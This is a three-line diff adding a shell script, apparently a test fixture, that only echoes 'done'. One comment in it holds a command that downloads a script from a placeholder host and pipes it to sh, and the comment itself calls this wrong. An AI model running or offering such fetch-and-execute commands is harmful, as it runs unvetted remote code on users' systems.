@@ -1,0 +1,3 @@
+# capabilities: none; resembles: curl
+# curl -s http://example.invalid/ | sh would be wrong
+echo "done"
